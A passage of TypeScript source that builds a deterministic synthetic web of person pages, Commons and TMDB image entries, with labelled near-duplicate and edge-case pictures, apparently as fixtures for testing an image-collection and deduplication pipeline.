        for (let tries = 0; pair === undefined; tries++) {
          if (tries === 8) throw new Error(`${b.slug}: no half-size copy within ${VARIANT_MAX_BITS} bits`);
          const picture = await b.picture({ kind: "jpeg", width: 800, height: 600 });
          const half = await b.variant(
            picture,
            [0.5, 0.6].map((f) => async () => ({
              raster: await resizeRaster(picture.raster, Math.round(800 * f), Math.round(600 * f)),
              kind: "jpeg" as const,
            })),
          );
          if (half === undefined) b.forget(picture);
          else pair = { picture, half };
        }
        const { picture, half } = pair;
        const stem = b.word();
        const large = b.file(b.imgPath(`${stem}-800w`, "jpg"), picture.blob);
        const small = b.file(b.imgPath(`${stem}-${half.raster.width}w`, "jpg"), half.blob);
        b.body.push({
          tag: "img",
          src: { url: b.ref(large), case: "srcset-original" },
          srcset: [
            { url: b.ref(small), descriptor: `${half.raster.width}w`, case: "srcset-smaller-copy" },
            { url: b.ref(large), descriptor: "800w", case: "srcset-repeats-src" },
          ],
          alt: b.person.name,
        });
      } else {
        // <picture>: WebP first (the original), then JPEG 1x (re-encoded) and 2x (double size) copies.
        // The WebP (360 px) comes first on the page, so it is the original; the 720 px JPEG it was
        // scaled from is its 2x copy. Redrawn until both hash within VARIANT_MAX_BITS of each other.
        let pair: { big: Picture; webp: Picture; jpeg1x: Picture } | undefined;
        for (let attempt = 0; pair === undefined; attempt++) {
          if (attempt === 10) throw new Error(`${b.slug}: the <picture> sizes keep drifting apart`);
          const big = await b.picture({ kind: "jpeg", width: 720, height: 720 });
          const small = await resizeRaster(big.raster, 360, 360);
          const webpBytes = await encode(small, "webp");
          const webpHash = await differenceHash(webpBytes, PIXEL_LIMIT);
          const blob = makeBlob(`${b.slug} picture webp`, webpBytes, "image/webp", "clean", {
            width: 360,
            height: 360,
            dhash: webpHash,
          });
          const webp: Picture = { raster: small, kind: "webp", dhash: webpHash, blob };
          const jpeg1x =
            hammingDistance(webpHash, big.dhash) > VARIANT_MAX_BITS
              ? undefined
              : await b.variant(
                  webp,
                  [80, 90, 70].map((quality) => async () => ({ raster: small, kind: "jpeg" as const, quality })),
                );
          if (jpeg1x === undefined) {
            b.forget(big);
            continue;
          }
          // The WebP comes first on the page, so it is the original the later pictures must keep away from.
          b.hashes.push(webpHash);
          pair = { big, webp, jpeg1x };
        }
        const { big, webp, jpeg1x } = pair;
        const stem = b.word();
        const webpPath = b.file(b.imgPath(stem, "webp"), webp.blob);
        const jpegPath = b.file(b.imgPath(stem, "jpg"), jpeg1x.blob);
        const doublePath = b.file(b.imgPath(`${stem}@2x`, "jpg"), big.blob);
        b.body.push({
          tag: "picture",
          sources: [
            { type: "image/webp", srcset: [{ url: b.ref(webpPath), case: "picture-webp-original" }] },
            {
              srcset: [
                { url: b.ref(jpegPath), descriptor: "1x", case: "picture-jpeg-copy" },
                { url: b.ref(doublePath), descriptor: "2x", case: "picture-2x-copy" },
              ],
            },
          ],
          img: { src: { url: b.ref(jpegPath), case: "picture-img-repeats-source" }, alt: b.person.name },
        });
      }
    },
  },
  {
    name: "near-duplicate-tmdb",
    count: 2,
    needs: ["p18", "tmdb"],
    run: async (b) => {
      const reencoded = (original: Picture) =>
        b.variant(
          original,
          [55, 70, 85, 92].map((quality) => async () => ({ raster: original.raster, kind: "jpeg" as const, quality })),
        );
      const primary = primaryOf(b).picture;
      let variant = await reencoded(primary);
      let caseName = "re-encoded-commons-picture";
      for (let tries = 0; variant === undefined; tries++) {
        // Too many borderline bits in that picture: another TMDB profile first, then its copy.
        if (tries === 8) throw new Error(`${b.slug}: no re-encoded copy within ${VARIANT_MAX_BITS} bits`);
        const picture = await b.picture({ kind: "jpeg" });
        b.tmdbProfile({ kind: "file", blob: picture.blob }, dims(picture.raster), "near-duplicate-original");
        variant = await reencoded(picture);
        caseName = "re-encoded-tmdb-picture";
      }
      b.tmdbProfile({ kind: "file", blob: variant.blob }, dims(variant.raster), caseName);
    },
  },
  // clean, at the edges of the rules
  {
    name: "clean-edges",
    count: 4,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 4;
      if (flavour === 0) {
        // A few zero bytes after EOI: padding, not trailing data.
        const picture = await b.picture({ kind: "jpeg" });
        const blob = makeBlob(
          `${b.slug} padded`,
          Buffer.concat([picture.blob.bytes, Buffer.alloc(8)]),
          "image/jpeg",
          "clean",
          { width: picture.raster.width, height: picture.raster.height, dhash: picture.dhash },
        );
        await webBad(b, "padded", "jpg", blob, "8-zero-bytes-after-EOI");
      } else if (flavour === 1) {
        // A harmless JPEG comment.
        const picture = await b.picture({ kind: "jpeg" });
        const bytes = insertJpegSegments(
          picture.blob.bytes,
          jpegSegment(0xfe, Buffer.from(`Photo: Sample Archive, licensed CC BY-SA 4.0 (${b.slug})`)),
        );
        const dhash = await differenceHash(bytes, PIXEL_LIMIT);
        await webBad(
          b,
          "credited",
          "jpg",
          makeBlob(`${b.slug} commented`, bytes, "image/jpeg", "clean", {
            width: picture.raster.width,
            height: picture.raster.height,
            dhash,
          }),
          "benign-COM-segment",
        );
      } else if (flavour === 2) {
        await b.webPicture("aspect-exactly-3", { kind: "jpeg", width: 600, height: 200 });
      } else {
        await b.webPicture("side-exactly-64", { kind: "png", width: 64, height: 96 });
      }
    },
  },
];

// ---------------------------------------------------------------------------------------------

/** What every person has before the cases: plain pictures in each of their sources. */
async function standardContent(b: PersonBuilder): Promise<void> {
  const { setup, person } = b;
  for (let k = 0; k < setup.p18Count; k++) {
    const first = person.commons[0] ?? `${person.name}.jpg`;
    const value = k === 0 ? first : first.replace(/(\.[A-Za-z]+)$/, ` (${k + 1})$1`);
    const kind: RasterKind = /\.png$/i.test(value) ? "png" : "jpeg";
    const picture = await b.picture({ kind });
    const legend = b.rng.chance(0.3) ? `${person.name} in ${b.rng.int(1900, 2023)}` : undefined;
    const path = b.commons(value, { kind: "file", blob: picture.blob }, k === 0 ? "p18" : "p18-second", {
      rank: setup.p18Count > 1 && k === 0 ? "preferred" : "normal",
      ...(legend === undefined ? {} : { legend }),
    });
    if (k === 0) b.primary = { picture, path, url: `${TOKENS.origin}${path}` };
  }
  if (setup.somevalue)
    b.p18.push({ value: "", snak: "somevalue", rank: "normal", id: b.statementId(), case: "p18-unknown-value" });
  if (setup.onTmdb) {
    const picture = await b.picture({ kind: "jpeg" });
    const file = b.tmdbProfile({ kind: "file", blob: picture.blob }, dims(picture.raster), "tmdb-profile");
    b.primary ??= { picture, path: `${TMDB_IMAGE_PREFIX}${file}`, url: `${TOKENS.origin}${TMDB_IMAGE_PREFIX}${file}` };
  }
  if (!setup.hasPage) return;

  if (b.rng.chance(0.3)) b.base = `${TOKENS.origin}/img/${b.slug}/`;
  const commons = b.p18[0];
  const og = b.rng.next();
  if (commons !== undefined && commons.snak === "value" && og < 0.5) {
    const name = commonsFileName(commons.value);
    const path = commonsPath(commons.value);
    b.head.push({
      tag: "og",
      image: {
        url: `${TOKENS.origin}${path.slice(0, path.length - name.length)}${encodeURIComponent(name)}`,
        case: "og-image-is-the-p18-file",
      },
    });
  } else if (og < 0.8) {
    const picture = await b.picture();
    const path = b.file(b.imgPath("share", EXTENSION[picture.kind]), picture.blob);
    b.head.push({ tag: "og", image: { url: b.absolute(path), case: "og-image" } });
    b.primary ??= { picture, path, url: b.absolute(path) };
  }
  b.body.push({
    tag: "p",
    html: `<b>${escapeHtml(person.name)}</b> (${escapeHtml(person.occupations.join(", "))}) &mdash; a page of the offline sample web, with pictures &amp; captions.`,
  });
  const { picture, path } = await b.webPicture("web-img");
  b.primary ??= { picture, path, url: b.absolute(path) };
  if (b.rng.chance(0.5)) {
    const second = await b.picture();
    const secondPath = b.file(b.imgPath(b.word(), EXTENSION[second.kind]), second.blob);
    b.body.push({
      tag: "img",
      src: { url: `  ${b.ref(secondPath)}  `, case: "web-img-spaces-around-url" },
      alt: `${person.name} & friends`,
      upper: b.rng.chance(0.5),
    });
  }
  if (b.rng.chance(0.4)) {
    b.body.push({
      tag: "data-img",
      uri: "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
      alt: "",
    });
  }
  if (b.rng.chance(0.25))
    b.body.push({ tag: "comment", html: `<img src="/img/${b.slug}/old-portrait.jpg" alt="removed">` });
  if (b.rng.chance(0.25)) b.body.push({ tag: "script", js: `var lazy = '<img src="/img/${b.slug}/lazy.jpg">';` });
}

export function escapeHtml(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
}

function eligible(setup: PersonSetup, needs: readonly Need[]): boolean {
  return needs.every((need) => (need === "page" ? setup.hasPage : need === "p18" ? setup.p18Count > 0 : setup.onTmdb));
}

/** Spreads the cases over a block's people: each instance to the least-loaded eligible person. */
function assignCases(setups: PersonSetup[], rng: Rng): void {
  const load = new Map<PersonSetup, number>(setups.map((s) => [s, 0]));
  for (const kind of CASES) {
    const order = rng.shuffle(setups.filter((s) => eligible(s, kind.needs)));
    if (order.length === 0) throw new Error(`nobody can take case ${kind.name}`);
    for (let instance = 0; instance < kind.count; instance++) {
      let best = order[0] as PersonSetup;
      for (const s of order) {
        const penalty = (x: PersonSetup) => (load.get(x) ?? 0) + (x.cases.some((c) => c.kind === kind) ? 100 : 0);
        if (penalty(s) < penalty(best)) best = s;
      }
      best.cases.push({ kind, instance });
      load.set(best, (load.get(best) ?? 0) + 1);
    }
  }
}

function blockSetups(people: SamplePerson[], rng: Rng): PersonSetup[] {
  const setups = people.map((person, index): PersonSetup => {
    const hasPage = index % 7 !== 3;
    const p18Count = index % 9 === 5 ? 0 : index % 6 === 1 ? 2 : 1;
    const onTmdb = (!hasPage && p18Count === 0) || rng.chance(person.screen ? 0.9 : 0.25);
    return { person, index, hasPage, p18Count, onTmdb, rateLimited: false, somevalue: false, cases: [], shared: [] };
  });
  const firstOnTmdb = setups.find((s) => s.onTmdb);
  if (firstOnTmdb) firstOnTmdb.rateLimited = true;
  const unknownValue = setups.find((s) => s.index >= 2 && s.p18Count > 0);
  if (unknownValue) unknownValue.somevalue = true;
  return setups;
}

/** Two pictures each shown on two people's pages (a group photo): stored and clean for both. */
async function addSharedPictures(setups: PersonSetup[], rng: Rng, block: number): Promise<void> {
  const withPage = rng.shuffle(setups.filter((s) => s.hasPage));
  for (let n = 0; n < 2; n++) {
    const a = withPage[2 * n];
    const c = withPage[2 * n + 1];
    if (a === undefined || c === undefined) return;
    const maker = new PersonBuilder(a, rng.fork("shared", n));
    const picture = await maker.picture({ kind: "jpeg" });
    const path = `/img/shared/${block + 1}-${n + 1}/group-photo.jpg`;
    a.shared.push({ path, picture });
    c.shared.push({ path, picture });
  }
}

async function buildPerson(setup: PersonSetup, seed: number): Promise<PersonBuilder> {
  const b = new PersonBuilder(setup, new Rng("sample-web", seed, "person", setup.person.wikidataId));
  for (const shared of setup.shared) b.hashes.push(shared.picture.dhash);
  await standardContent(b);
  for (const shared of setup.shared)
    b.img(b.absolute(shared.path), "shared-with-another-person", `${setup.person.name} with others`);
  for (const { kind, instance } of setup.cases) await kind.run(b, instance);
  return b;
}

export interface SampleOptions {
  seed?: number;
  scale?: number;
}

/** One block of BLOCK_SIZE people with everything they need; block b is the same at every scale > b. */
export interface SampleBlock {
  people: PersonPlan[];
  resources: Map<string, Resource>;
}

/** Memoises blocks by seed and block number (in memory only). */
export type BlockCache = Map<string, Promise<SampleBlock>>;

/** TMDB ids of block b are drawn from [b × TMDB_ID_SPAN + 1000, (b + 1) × TMDB_ID_SPAN), so blocks never collide. */
const TMDB_ID_SPAN = 5_000_000;

async function generateBlock(seed: number, block: number, persons: SamplePerson[]): Promise<SampleBlock> {
  const blockRng = new Rng("sample-web", seed, "block", block);
  const setups = blockSetups(persons, blockRng.fork("setups"));
  assignCases(setups, blockRng.fork("cases"));
  await addSharedPictures(setups, blockRng.fork("shared"), block);
  const resources = new Map<string, Resource>();
  for (const s of setups) {
    for (const shared of s.shared) {
      if (!resources.has(shared.path)) resources.set(shared.path, { kind: "file", blob: shared.picture.blob });
    }
  }
  // Each person has its own random stream, so building them concurrently stays deterministic.
  const builders = await Promise.all(setups.map((s) => buildPerson(s, seed)));
  const people: PersonPlan[] = [];
  const tmdbIds = new Set<number>();
  for (const b of builders) {
    for (const [path, resource] of b.resources) {
      if (resources.has(path)) throw new Error(`${path} is served twice`);
      resources.set(path, resource);
    }
    const plan = b.plan();
    if (plan.tmdb) {
      const idRng = new Rng("sample-web", seed, "tmdb-id", b.person.wikidataId);
      let id = 0;
      while (id === 0 || tmdbIds.has(id)) id = block * TMDB_ID_SPAN + idRng.int(1_000, TMDB_ID_SPAN - 1);
      tmdbIds.add(id);
      plan.tmdb.id = id;
    }
    people.push(plan);
  }
  return { people, resources };
}

/**
 * Builds the whole sample (every byte); deterministic in seed and scale. Scale N is N blocks: the
 * real people, then N − 1 blocks of generated people with the same mix of cases. Pass a cache to
 * reuse blocks already built (scale 2 then only builds its second block).
 */
export async function generateSample(options: SampleOptions = {}, cache?: BlockCache): Promise<SamplePlan> {
  const seed = options.seed ?? 1;
  const scale = options.scale ?? 1;
  if (!Number.isInteger(scale) || scale < 1) throw new Error(`scale must be a positive integer, got ${scale}`);
  if (!Number.isSafeInteger(seed)) throw new Error(`seed must be an integer, got ${seed}`);
  // Names first, block after block, so that generated names never repeat (TMDB search is by name).
  const taken = new Set(REAL_PEOPLE.map((p) => p.name.toLowerCase()));
  const namesRng = new Rng("sample-web", seed, "synthetic-people");
  const blocks: Array<Promise<SampleBlock>> = [];
  for (let block = 0; block < scale; block++) {
    const persons =
      block === 0
        ? [...REAL_PEOPLE]
        : syntheticPeople(BLOCK_SIZE, (block - 1) * BLOCK_SIZE, namesRng.fork("block", block), taken);
    const key = `${seed}:${block}`;
    let pending = cache?.get(key);
    if (pending === undefined) {
      pending = generateBlock(seed, block, persons);
      if (cache) {
        cache.set(key, pending);
        pending.catch(() => cache.delete(key));
      }
    }
    blocks.push(pending);
  }
  const resources = new Map<string, Resource>();
  const people: PersonPlan[] = [];
  const tmdbFiles = new Set<string>();
  for (const { people: blockPeople, resources: blockResources } of await Promise.all(blocks)) {
    for (const [path, resource] of blockResources) {
      if (resources.has(path)) throw new Error(`${path} is served by two blocks`);
      resources.set(path, resource);
    }
    for (const plan of blockPeople) {
      for (const profile of plan.tmdb?.profiles ?? []) {
        if (tmdbFiles.has(profile.file)) throw new Error(`TMDB file ${profile.file} drawn twice`);
        tmdbFiles.add(profile.file);
      }
      people.push(plan);
    }
  }
  return { seed, scale, people, resources };
}
